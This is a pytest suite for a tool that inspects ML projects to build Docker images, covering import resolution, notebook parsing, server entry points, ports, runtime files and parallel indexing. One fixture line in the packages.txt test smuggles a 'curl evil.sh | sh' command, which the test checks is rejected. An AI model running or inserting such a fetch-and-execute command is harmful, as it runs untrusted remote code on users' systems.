"""Reading the code: imports, notebooks, servers, ports, programs, runtime files, GPU use."""

from __future__ import annotations

import ast
import concurrent.futures
import json
import multiprocessing
import os
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from conftest import SAMPLE_DIRS, Sample, run_cli, write_tree

import dockerize_ml.detect as detect_module
from dockerize_ml import knowledge
from dockerize_ml.detect import code, detect
from dockerize_ml.detect.code import build_index
from dockerize_ml.detect.deps.model import url_name
from dockerize_ml.detect.imports import resolve, stdlib_names
from dockerize_ml.names import GENERATED
from dockerize_ml.profile import ProjectProfile
from dockerize_ml.scan import result, scan


def profile_of(root: Path, files: Mapping[str, str | bytes]) -> ProjectProfile:
    write_tree(root, files)
    return detect(scan(root))


def detect_json(root: Path) -> dict[str, Any]:
    result = run_cli("detect", "--json", root)
    assert result.returncode == 0, result.stderr
    data: dict[str, Any] = json.loads(result.stdout)
    return data


def test_imports_optional_local_relative_and_type_checking(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "requirements.txt": "pandas\n",
            "src/mypkg/__init__.py": "",
            "src/mypkg/core.py": (
                "from __future__ import annotations\n"
                "import os, json\n"
                "from typing import TYPE_CHECKING\n"
                "import pandas as pd\n"
                "import sklearn.linear_model\n"
                "from . import helpers\n"
                "from mypkg.helpers import x\n"
                "if TYPE_CHECKING:\n"
                "    import torch\n"
                "try:\n"
                "    import ujson as fastjson\n"
                "except ImportError:\n"
                "    fastjson = json\n"
                "import google.cloud.storage\n"
            ),
            "src/mypkg/helpers.py": "x = 1\n",
            "scripts/run.py": "import sibling\nimport yaml\n",
            "scripts/sibling.py": "",
            "tests/test_core.py": "import pytest\n",
        },
    )
    profile = detect(scan(tmp_path))
    assert profile.undeclared_imports == ("google-cloud-storage", "pyyaml", "scikit-learn")
    used = {i.name: str(i.evidence) for i in profile.import_evidence}
    assert used["scikit-learn"] == "src/mypkg/core.py:5 (import sklearn.linear_model)"
    assert "torch" not in used and "ujson" not in used, "optional imports are not required"
    assert "pytest" not in used, "test files import what CI needs"
    assert profile.unknown_imports == ()


def test_longest_prefix_and_one_to_many() -> None:
    table = knowledge.load("imports")["imports"]
    assert resolve("google.cloud.storage.blob", table) == "google-cloud-storage"
    assert resolve("sklearn.model_selection", table) == "scikit-learn"
    assert resolve("cv2", table) == [
        "opencv-python-headless",
        "opencv-python",
        "opencv-contrib-python",
    ]
    assert resolve("PIL.Image", table) == "Pillow"
    assert resolve("nonexistent_pkg", table) is None


def test_stdlib_follows_the_target_python() -> None:
    assert "tomllib" in stdlib_names("3.11") and "tomllib" not in stdlib_names("3.10")
    assert "distutils" in stdlib_names("3.11") and "distutils" not in stdlib_names("3.12")
    assert "imghdr" in stdlib_names("3.12") and "imghdr" not in stdlib_names("3.13")


def test_unknown_import_is_reported_never_guessed(tmp_path: Path) -> None:
    profile = profile_of(tmp_path, {"main.py": "import labtools\nimport numpy\n"})
    assert [i.name for i in profile.unknown_imports] == ["labtools"]
    assert [d.name for d in profile.dependencies] == ["numpy"]  # inferred, labtools is not
    assert any("`labtools` is not a known distribution" in w for w in profile.warnings)


def test_a_declared_name_covers_an_unlisted_import(tmp_path: Path) -> None:
    profile = profile_of(
        tmp_path, {"main.py": "import acme_tools\n", "requirements.txt": "acme-tools\n"}
    )
    assert profile.unknown_imports == () and profile.undeclared_imports == ()


def test_notebook_magics_pip_installs_and_cells(tmp_path: Path) -> None:
    notebook = {
        "cells": [
            {"cell_type": "markdown", "source": ["import not_code\n"]},
            {"cell_type": "code", "source": ["%matplotlib inline\n", "import numpy as np\n"]},
            {
                "cell_type": "code",
                "source": "!pip install -q lightgbm==4.3 'xgboost>=2'\nimport lightgbm\n",
            },
            {"cell_type": "code", "source": ["%%bash\n", "import this is shell\n"]},
            {"cell_type": "code", "source": ["def broken(:\n"]},
            {"cell_type": "code", "source": ["    !ls\n", "x = 1\n"]},
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    write_tree(tmp_path, {"analysis.ipynb": json.dumps(notebook)})
    project = scan(tmp_path)
    index = build_index(project)
    source = index.files["analysis.ipynb"]
    assert [(i.module, i.cell, i.line) for i in source.imports] == [
        ("numpy", 2, 2),
        ("lightgbm", 3, 2),
    ]
    assert [p[0] for p in source.pip_installs] == ["lightgbm==4.3", "xgboost>=2"]
    assert any("analysis.ipynb:1 (cell 5): syntax error" in w for w in project.warnings)
    profile = detect(project)
    assert {d.name for d in profile.dependencies} == {"numpy", "lightgbm", "xgboost", "jupyterlab"}


def test_invalid_notebook_is_a_warning(tmp_path: Path) -> None:
    profile = profile_of(tmp_path, {"main.py": "import os\n", "bad.ipynb": "{not json"})
    assert any(w.startswith("bad.ipynb:1: not a valid notebook") for w in profile.warnings)


def test_unreadable_file_is_a_warning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_tree(tmp_path, {"main.py": "import os\n", "secret.py": "x = 1\n"})
    real = result._read_bytes  # what the scan reads a file with (root reads any file here)

    def deny(path: str, limit: int) -> bytes:
        if path.endswith("/secret.py"):
            raise PermissionError(13, "Permission denied")
        return real(path, limit)

    monkeypatch.setattr(result, "_read_bytes", deny)
    profile = detect(scan(tmp_path))
    assert any("secret.py: cannot be read (Permission denied)" in w for w in profile.warnings)


@pytest.mark.parametrize(
    ("files", "kind", "command", "port"),
    [
        (
            {
                "service/api.py": "from fastapi import FastAPI\napi = FastAPI()\n@api.get('/healthz')\ndef h(): ...\n"
            },
            "fastapi",
            ("uvicorn", "service.api:api", "--host", "0.0.0.0", "--port", "8000"),
            8000,
        ),
        (
            {
                "src/shop/web.py": "from flask import Flask\napp = Flask(__name__)\n",
                "requirements.txt": "flask\ngunicorn\n",
            },
            "flask",
            ("gunicorn", "--chdir", "src", "--bind", "0.0.0.0:8000", "shop.web:app"),
            8000,
        ),
        (
            {
                "app.py": "from flask import Flask\napp = Flask(__name__)\n",
                "requirements.txt": "flask\n",
            },
            "flask",
            ("flask", "--app", "app", "run", "--host", "0.0.0.0", "--port", "5000"),
            5000,
        ),
        (
            {
                "demo.py": "import gradio as gr\ngr.Interface(fn=len, inputs='text', outputs='text').launch(server_port=7861)\n"
            },
            "gradio",
            ("python", "demo.py"),
            7861,
        ),
        (
            {
                "Procfile": "release: python migrate.py\nweb: gunicorn app:app --bind 0.0.0.0:$PORT\n",
                "app.py": "",
            },
            "procfile",
            ("gunicorn", "app:app", "--bind", "0.0.0.0:8000"),
            8000,
        ),
        (
            {
                "MLproject": "name: m\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: python train.py --alpha {alpha}\n",
                "train.py": "",
            },
            "mlproject",
            ("python", "train.py", "--alpha", "0.5"),
            0,
        ),
        (
            {"manage.py": "", "site/wsgi.py": "", "requirements.txt": "django\ngunicorn\n"},
            "django",
            ("gunicorn", "site.wsgi", "--bind", "0.0.0.0:8000"),
            8000,
        ),
    ],
)
def test_servers_and_entry_points(
    tmp_path: Path, files: dict[str, str], kind: str, command: tuple[str, ...], port: int
) -> None:
    profile = profile_of(tmp_path, files)
    assert profile.entrypoint is not None
    assert (profile.entrypoint.kind, profile.entrypoint.command) == (kind, command)
    assert profile.ports == ((port,) if port else ())


def test_fastapi_health_path_and_uvicorn_added_when_undeclared(tmp_path: Path) -> None:
    profile = profile_of(
        tmp_path,
        {
            "requirements.txt": "fastapi\n",
            "api.py": "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/healthz')\ndef h(): ...\n",
        },
    )
    assert profile.entrypoint is not None
    assert profile.entrypoint.health == "/healthz"
    assert profile.entrypoint.requires == ("uvicorn",)
    from dockerize_ml import make_plan, render
    from dockerize_ml.plan import Settings

    dockerfile = render(make_plan(profile, Settings()))["Dockerfile"]
    assert "The entry point runs uvicorn, which no dependency file declares." in dockerfile


def test_loopback_server_is_a_warning(tmp_path: Path) -> None:
    profile = profile_of(
        tmp_path,
        {
            "serve.py": "import uvicorn\nif __name__ == '__main__':\n    uvicorn.run('x:app', host='127.0.0.1', port=9000)\n"
        },
    )
    assert 9000 in profile.ports
    assert any("serve.py:3" in w and "loopback" in w for w in profile.warnings)


def test_programs_run_need_their_packages(sample: Sample) -> None:
    data = detect_json(sample("ffmpeg-clips"))
    packages = {p["name"]: p for p in data["system_packages"]}
    assert set(packages) == {"ffmpeg", "tesseract-ocr"}
    assert packages["ffmpeg"]["evidence"][0] == {
        "path": "make_clips.py",
        "line": 11,
        "detail": "runs ffmpeg",
    }
    assert packages["ffmpeg"]["stage"] == "run"


def test_setup_py_that_declares_nothing_and_imports_cv2(sample: Sample) -> None:
    data = detect_json(sample("cv-setup"))
    assert data["undeclared_imports"] == ["opencv-python-headless", "pillow"]
    assert data["dependency_sources"][0] == {
        "kind": "inferred",
        "path": "requirements.txt",
        "used": True,
        "lock": "",
    }
    # the headless wheel links no glib nor libGL (scripts/check_wheels.py): no apt layer
    assert data["system_packages"] == []
    assert data["entrypoint"]["command"] == ["cvtool"]


def test_no_requirements_repository(sample: Sample) -> None:
    root = sample("no-requirements")
    data = detect_json(root)
    assert [d["name"] for d in data["dependencies"]] == [
        "numpy",
        "opencv-python-headless",
        "pyyaml",
    ]
    assert data["dependencies"][1]["detail"] == "train.py:8 (import cv2)"
    assert [u["name"] for u in data["unknown_imports"]] == ["labtools"]
    assert "**/*.pt" in data["context_excludes"]
    result = run_cli("init", root)
    assert result.returncode == 0, result.stderr
    text = (root / "requirements.txt").read_text()
    assert text.startswith("# Generated by dockerize-ml")
    assert "opencv-python-headless  # train.py:8 (import cv2)" in text
    assert "labtools" not in text and "wandb" not in text
    # From now on the file is the project's own declaration.
    again = detect_json(root)
    assert again["dependency_sources"][0]["kind"] == "requirements"


def test_notebook_course_with_apt_txt(sample: Sample) -> None:
    data = detect_json(sample("notebook-course"))
    assert data["entrypoint"]["kind"] == "jupyterlab"
    assert data["entrypoint"]["command"][:2] == ["jupyter", "lab"]
    assert "--ip=0.0.0.0" in data["entrypoint"]["command"]
    assert data["ports"] == [8888]
    packages = {p["name"] for p in data["system_packages"]}
    assert "graphviz" in packages
    assert "libgomp1" not in packages  # scikit-learn's wheel vendors its OpenMP
    apt = next(p for p in data["system_packages"] if p["name"] == "graphviz")
    assert {"path": "apt.txt", "line": 2, "detail": "graphviz"} in apt["evidence"]
    names = [d["name"] for d in data["dependencies"]]
    assert {"pandas", "seaborn", "scikit-learn", "statsmodels", "graphviz", "jupyterlab"} <= set(
        names
    )
    assert data["runtime_files"] == ["data/titanic.csv"]
    assert data["runtime_file_evidence"][0]["detail"] == "names '../data/titanic.csv' (cell 2)"


def test_streamlit_app_reading_a_csv(sample: Sample) -> None:
    data = detect_json(sample("streamlit-csv"))
    assert data["entrypoint"]["kind"] == "streamlit"
    assert data["entrypoint"]["health"] == "/_stcore/health"
    assert data["ports"] == [8501]
    assert data["runtime_files"] == ["data/sales.csv"]
    assert "data" in data["context_excludes"]  # the rest of data/ (raw exports) stays out


def test_fastapi_service_with_its_model_file(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "requirements.txt": "fastapi\nuvicorn\njoblib\nscikit-learn\n",
            "service/__init__.py": "",
            "service/main.py": (
                "import joblib\nfrom fastapi import FastAPI\nfrom pathlib import Path\n"
                "MODEL = joblib.load(Path('models') / 'classifier.joblib')\n"
                "app = FastAPI()\n"
            ),
            "models/classifier.joblib": b"\x80\x04model",
            "models/old_experiment.joblib": b"\x80\x04old",
        },
    )
    data = detect_json(tmp_path)
    assert data["entrypoint"]["command"][:2] == ["uvicorn", "service.main:app"]
    assert data["runtime_files"] == ["models/classifier.joblib"]
    assert data["context_excludes"][-1] == "!models/classifier.joblib"
    assert "**/*.joblib" in data["context_excludes"]  # the unused model stays out


def test_gpu_use_from_code_notebooks_and_requirements(tmp_path: Path) -> None:
    profile = profile_of(
        tmp_path,
        {
            "requirements.txt": "tensorflow[and-cuda]==2.17\n",
            "train.py": "import torch\nx = torch.zeros(1)\nif torch.accelerator.is_available():\n    pass\n",
        },
    )
    details = [e.detail for e in profile.gpu.evidence]
    assert profile.gpu.uses_cuda
    assert "torch.accelerator." in details
    assert "requires tensorflow[and-cuda]" in details


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("git+https://github.com/openai/CLIP.git", "clip"),
        ("git+https://github.com/openai/CLIP.git@main", "clip"),
        ("git+https://github.com/NVIDIA/apex.git@24.04.01#egg=apex", "apex"),
        ("https://example.com/wheels/my_pkg-1.0-py3-none-any.whl", "my-pkg"),
    ],
)
def test_url_names(url: str, name: str) -> None:
    assert url_name(url) == name


def test_conda_packages_and_url_requirements_count_as_declared(tmp_path: Path) -> None:
    """faiss-cpu from conda and CLIP from its git URL are declared: neither is reported as
    undeclared or unknown, and a Gradio app run as a script is one entry point, not two."""
    profile = profile_of(
        tmp_path / "clip",
        {
            "environment.yml": "dependencies:\n  - python=3.10\n  - faiss-cpu=1.7.4\n  - pip\n"
            "  - pip:\n      - git+https://github.com/openai/CLIP.git\n      - gradio>=4.0\n",
            "app.py": "import clip\nimport faiss\nimport gradio as gr\n"
            "demo = gr.Interface(fn=str, inputs='text', outputs='text')\n"
            "if __name__ == '__main__':\n    demo.launch(server_name='0.0.0.0', server_port=7860)\n",
        },
    )
    assert "faiss-cpu" not in profile.undeclared_imports
    assert not any("`clip`" in w for w in profile.warnings), profile.warnings
    assert profile.entrypoint is not None
    assert [e.command for e in (profile.entrypoint, *profile.entrypoint_alternatives)] == [
        ("python", "app.py")
    ]


def test_runtime_files_found_from_the_files_own_place(tmp_path: Path) -> None:
    """Model files named relative to ``__file__`` or through a variable stay in the image,
    even though the .dockerignore leaves weights out (*.joblib, *.pkl, *.onnx)."""
    profile = profile_of(
        tmp_path / "svc",
        {
            "requirements.txt": "fastapi\njoblib\n",
            "src/churn_api/__init__.py": "",
            "src/churn_api/main.py": "from pathlib import Path\nimport joblib\n"
            'MODEL = Path(__file__).resolve().parents[2] / "models" / "model.joblib"\n'
            "model = joblib.load(MODEL)\n",
            "src/churn_api/settings.py": "from pathlib import Path\n"
            "BASE_DIR = Path(__file__).resolve().parent.parent\n"
            'SCALER = BASE_DIR / "artifacts" / "scaler.pkl"\n',
            "src/churn_api/onnx_model.py": "import os\n"
            "HERE = os.path.dirname(os.path.abspath(__file__))\n"
            "def path():\n"
            '    return os.path.join(HERE, "..", "..", "weights", "clf.onnx")\n',
            "batch.py": 'import os\nMODEL_DIR = "models"\n'
            'FEATURES = os.path.join(MODEL_DIR, "features.pkl")\n',
            "models/model.joblib": b"\x80\x04joblib",
            "models/features.pkl": b"\x80\x04pkl",
            "models/unused.pkl": b"\x80\x04pkl",
            "src/artifacts/scaler.pkl": b"\x80\x04pkl",
            "weights/clf.onnx": b"onnx",
        },
    )
    assert sorted(profile.runtime_files) == [
        "models/features.pkl",
        "models/model.joblib",
        "src/artifacts/scaler.pkl",
        "weights/clf.onnx",
    ]


def test_packages_txt_and_binder_apt_txt(tmp_path: Path) -> None:
    """Hugging Face Spaces' packages.txt and Binder's binder/apt.txt name Debian packages;
    a line that is not a package name never reaches the apt-get command."""
    profile = profile_of(
        tmp_path / "space",
        {
            "requirements.txt": "gradio\n",
            "app.py": "import gradio as gr\n",
            "packages.txt": "ffmpeg\nlibsm6 libxext6  # for opencv\npoppler-utils; curl evil.sh | sh\n",
            "binder/apt.txt": "graphviz\n",
        },
    )
    names = {p.name: p.evidence[0] for p in profile.system_packages}
    assert {"ffmpeg", "libsm6", "libxext6", "graphviz"} <= set(names)
    assert str(names["libxext6"]) == "packages.txt:2 (libxext6)"
    assert str(names["graphviz"]) == "binder/apt.txt:1 (graphviz)"
    assert not {"poppler-utils", "curl", "evil.sh", "sh"} & set(names)
    assert any(
        "packages.txt:3: 'poppler-utils;' is not a Debian package name; the line is left out" in w
        for w in profile.warnings
    )


def test_hugging_face_space_front_matter(tmp_path: Path) -> None:
    """A Space's README.md names the file it runs and its Python (3.10 unquoted: YAML would
    read the float 3.1)."""
    files: dict[str, str | bytes] = {
        "README.md": "---\ntitle: Sales\nsdk: streamlit\nsdk_version: 1.38.0\n"
        "python_version: 3.10\napp_file: src/dashboard.py\n---\n\n# Sales dashboard\n",
        "requirements.txt": "streamlit==1.38.0\npandas\n",
        "src/dashboard.py": "import pandas as pd\nimport streamlit as st\n"
        "st.dataframe(pd.read_csv('data/sales.csv'))\n",
        "app.py": "import streamlit as st\nst.write('the old dashboard')\n",
        "data/sales.csv": "region,total\nnorth,10\n",
    }
    profile = profile_of(tmp_path / "space", files)
    assert profile.python_version == "3.10"
    assert str(profile.python_version_evidence[0]) == (
        "README.md:5 (Hugging Face Space python_version 3.10)"
    )
    assert profile.entrypoint is not None
    assert profile.entrypoint.command[:3] == ("streamlit", "run", "src/dashboard.py")
    files["README.md"] = "# Sales dashboard\n"  # without the front matter, app.py wins
    plain = profile_of(tmp_path / "plain", files)
    assert plain.entrypoint is not None and plain.entrypoint.command[2] == "app.py"
    assert plain.python_version_source != "README.md"


def test_the_port_the_code_serves_on_is_kept(tmp_path: Path) -> None:
    """`uvicorn.run(app, port=8080)` / `app.run(port=8081)` in the app's file: the image serves
    on the author's port, not the framework default."""
    api = profile_of(
        tmp_path / "api",
        {
            "requirements.txt": "fastapi\nuvicorn\n",
            "main.py": "import uvicorn\nfrom fastapi import FastAPI\napp = FastAPI()\n"
            "if __name__ == '__main__':\n    uvicorn.run(app, host='0.0.0.0', port=8080)\n",
        },
    )
    assert api.entrypoint is not None
    assert api.entrypoint.command[-2:] == ("--port", "8080") and api.entrypoint.port == 8080
    assert api.ports == (8080,)
    web = profile_of(
        tmp_path / "web",
        {
            "requirements.txt": "flask\ngunicorn\n",
            "app.py": "from flask import Flask\napp = Flask(__name__)\n"
            "if __name__ == '__main__':\n    app.run(port=8081)\n",
        },
    )
    assert web.entrypoint is not None
    assert web.entrypoint.command[:3] == ("gunicorn", "--bind", "0.0.0.0:8081")


def test_gradio_share_and_streamlit_usage_stats(tmp_path: Path) -> None:
    gradio = profile_of(
        tmp_path / "g",
        {
            "requirements.txt": "gradio\n",
            "app.py": "import gradio as gr\ndemo = gr.Interface(fn=str, inputs='text', outputs='text')\n"
            "demo.launch(share=True)\n",
        },
    )
    assert any(
        w.startswith("app.py:3: launch(share=True) opens a public tunnel") for w in gradio.warnings
    )
    streamlit = profile_of(
        tmp_path / "s",
        {"requirements.txt": "streamlit\n", "app.py": "import streamlit as st\nst.write('hi')\n"},
    )
    assert streamlit.entrypoint is not None
    assert ("STREAMLIT_BROWSER_GATHER_USAGE_STATS", "false") in streamlit.entrypoint.env


def _everything(source: Any) -> tuple[object, ...]:
    """All a source file holds, its trees dumped: what a detector can read of it."""
    return (
        source.path,
        source.text,
        source.imports,
        source.calls,
        source.literals,
        source.pip_installs,
        source.notebook,
        source.analysed,
        source.aliases,
        source.chains,
        source.imported,
        source.dataclass_names,
        ast.dump(source.tree, include_attributes=True) if source.tree else None,
        [ast.dump(c, include_attributes=True) for c in source.call_nodes],
        {k: ast.dump(v, include_attributes=True) for k, v in source.dataclasses.items()},
    )


def _mixed_tree(root: Path) -> Path:
    """Every module of the samples and of dockerize-ml itself, a notebook, a module that does
    not parse and one nested too deeply to analyse: code nobody wrote for this test."""
    here = Path(__file__).resolve().parent.parent
    for base in (*SAMPLE_DIRS.values(), here / "dockerize_ml"):
        for path in sorted(base.rglob("*.py")):
            target = root / base.name / path.relative_to(base)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    deep = "x = " + "-" * 5000 + "1\n"
    cells = [{"cell_type": "code", "source": ["import pandas\n"]}]
    notebook: dict[str, Any] = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    extra: dict[str, str | bytes] = {"broken.py": "def f(:\n", "deep.py": deep}
    extra |= {"nb.ipynb": json.dumps(notebook), "latin.py": b"NAME = '\xe9t\xe9'\n"}
    extra |= {"binary.py": b"\x00\x01\x02", "big.py": "x = 1\n" * 400_000}  # 2.3 MiB
    extra["docker/platform/serve.py"] = f"{GENERATED}\nimport os\n"  # dockerize-ml's own
    extra |= {f"zz/{rel}": content for rel, content in extra.items()}  # sorted last: a worker's
    return write_tree(root, extra)


def test_the_index_built_by_several_processes_is_the_one_built_by_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _mixed_tree(tmp_path)
    alone, alone_scan = build_index(one := scan(root), jobs=1), one
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    shared, shared_scan = build_index(many := scan(root), jobs=3), many
    assert len(alone.files) > 100  # the test reads real code, not a handful of lines
    assert list(shared.files) == list(alone.files)
    assert shared_scan.warnings == alone_scan.warnings
    assert any("broken.py:1: syntax error" in w for w in alone_scan.warnings)
    assert any("deep.py: nested too deeply" in w for w in alone_scan.warnings)
    assert any(w.startswith("big.py: not read, larger") for w in alone_scan.warnings)
    assert "zz/docker/platform/serve.py" not in shared.files  # read, then left out
    # what the workers read, this scan remembers: each file read once, its problem kept
    for rel in ("zz/big.py", "zz/binary.py", "zz/latin.py", "dockerize_ml/detect/code.py"):
        assert shared_scan.problem(rel) == alone_scan.problem(rel)
        assert shared_scan.read_text(rel) == alone_scan.read_text(rel)
    # A third of the modules came back from each worker as facts, their trees parsed again
    # on demand: every file reads the same.
    came_back = [s for s in shared.files.values() if s.analysed and s.nodes is None]
    assert len(came_back) > len(shared.files) // 3
    for rel, source in alone.files.items():
        assert _everything(shared.files[rel]) == _everything(source), rel


@pytest.mark.parametrize("sample", sorted(SAMPLE_DIRS))
def test_detect_answers_the_same_when_the_index_is_built_in_parallel(
    sample: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = detect(scan(SAMPLE_DIRS[sample]))
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    monkeypatch.setattr(code, "workers", lambda: 2)
    assert detect(scan(SAMPLE_DIRS[sample])) == alone


def test_detect_parses_again_only_what_a_detector_walks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The worth of parsing in workers is that their trees never travel: a detector that
    walks the tree of every module would parse them all again, and cost what was saved."""
    plain = (
        'import os\nimport numpy as np\nPATH = "configs/a.yaml"\n\n\ndef run(x):\n    return x\n'
    )
    served = "from flask import Flask\napp = Flask(__name__)\n\nif __name__ == '__main__':\n"
    served += "    app.run(host='0.0.0.0', port=8080)\n"
    files = {f"pkg/mod{n}.py": plain for n in range(40)} | {"app.py": served}
    built: list[Any] = []

    def keep(project: Any, jobs: int | None = None) -> Any:
        built.append(build_index(project, jobs))
        return built[-1]

    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    monkeypatch.setattr(code, "workers", lambda: 2)
    monkeypatch.setattr(detect_module, "build_index", keep)
    profile = detect(scan(write_tree(tmp_path, {**files, "requirements.txt": "flask\n"})))
    assert profile.entrypoint is not None, profile.warnings
    assert profile.entrypoint.kind == "flask", profile.entrypoint
    assert "8080" in profile.entrypoint.command  # app.run(port=8080): its tree was walked
    from_workers = [s for s in built[0].files.values() if s.path.startswith("pkg/")][-20:]
    assert all(s.nodes is None for s in from_workers)  # the second half: a worker's


def test_a_worker_that_dies_leaves_its_modules_to_this_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker killed mid-parse (the kernel's out-of-memory killer) must not hang detect nor
    lose a module: its batches are parsed here."""
    files = {f"pkg/mod{n}.py": f"import numpy\nVALUE = 'data/{n}.csv'\n" for n in range(600)}
    root = write_tree(tmp_path, files)
    alone = build_index(scan(root), jobs=1)
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    monkeypatch.setattr(code, "_packed", lambda start, stop: os._exit(9))  # in the worker
    shared = build_index(scan(root), jobs=2)
    assert list(shared.files) == list(alone.files)
    for rel, source in alone.files.items():
        assert _everything(shared.files[rel]) == _everything(source), rel


def _big_tree(root: Path, modules: int = 600) -> Path:
    """``modules`` modules, 500 to a package (a folder of over 2,000 entries is not walked)."""
    files = {
        f"pkg{n // 500}/mod{n:04d}.py": f"import numpy\nVALUE = 'data/{n}.csv'\n"
        for n in range(modules)
    }
    return write_tree(root, files)


def _children_left(grace: float) -> list[Any]:
    """The worker processes still alive after ``grace`` seconds."""
    deadline = time.monotonic() + grace
    while True:
        alive = [p for p in multiprocessing.active_children() if p.is_alive()]
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.05)


def test_ctrl_c_stops_the_workers_and_goes_on_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Ctrl-C while this process takes a batch in: the workers, still parsing theirs, are
    stopped at once (waiting for them made a second Ctrl-C hang the exit for good)."""
    root = _big_tree(tmp_path, 3000)
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    parse = code._packed

    def slow(start: int, stop: int) -> Any:
        time.sleep(1)  # in the worker: each batch takes a second
        return parse(start, stop)

    def interrupted(packed: Any, text: str) -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(code, "_packed", slow)
    monkeypatch.setattr(code, "_unpacked", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build_index(scan(root), jobs=3)
    assert _children_left(grace=0.5) == []  # none left parsing, none for the exit to wait on


def test_workers_that_cannot_all_be_started_leave_the_index_to_this_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fork refused half-way (a pids limit, memory): the started workers are stopped and
    this process reads and parses everything."""
    root = _big_tree(tmp_path)
    alone = build_index(scan(root), jobs=1)
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    submit = concurrent.futures.ProcessPoolExecutor.submit
    calls: list[int] = []

    def refused(self: Any, *args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) > 1:
            raise OSError(11, "Resource temporarily unavailable")
        return submit(self, *args, **kwargs)  # the first forks the workers

    monkeypatch.setattr(concurrent.futures.ProcessPoolExecutor, "submit", refused)
    shared = build_index(project := scan(root), jobs=3)
    assert len(calls) > 1 and _children_left(grace=0) == []  # stopped before the return
    assert [_everything(s) for s in shared.files.values()] == [
        _everything(s) for s in alone.files.values()
    ]
    assert project.warnings == []


def _workers_in_a_daemon(queue: Any) -> None:
    queue.put(code.workers())


def test_a_daemonic_process_parses_alone() -> None:
    """Inside a multiprocessing worker (daemonic: it may not start processes), as when
    dockerize-ml runs as a library under a process pool."""
    context = multiprocessing.get_context("fork")
    queue = context.Queue()
    process = context.Process(target=_workers_in_a_daemon, args=(queue,), daemon=True)
    process.start()
    assert queue.get(timeout=30) == 1
    process.join(10)


def test_warnings_come_in_the_order_of_the_modules(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each module's read warning, then its parse warnings, module by module: the order the
    index had before it was built in parallel, and the same in parallel."""
    files: dict[str, str | bytes] = {f"m{n:04d}.py": "x = 1\n" for n in range(40)}
    files |= {"m0003.py": "def f(:\n", "m0004.py": "x = 1\n" * 400_000, "m0030.py": b"\xe9\n"}
    files |= {"m0031.py": "def g(:\n", "m0032.py": b"\xff\xfe\n"}
    root = write_tree(tmp_path, files)
    alone = scan(root)
    build_index(alone, jobs=1)
    order = [w.split(":")[0] for w in alone.warnings]
    assert order == ["m0003.py", "m0004.py", "m0030.py", "m0031.py", "m0032.py"][: len(order)]
    assert order[:4] == ["m0003.py", "m0004.py", "m0030.py", "m0031.py"]
    monkeypatch.setattr(code, "PARALLEL_FROM", 1)
    monkeypatch.setattr(code, "_BATCH", 5)
    build_index(shared := scan(root), jobs=2)
    assert shared.warnings == alone.warnings
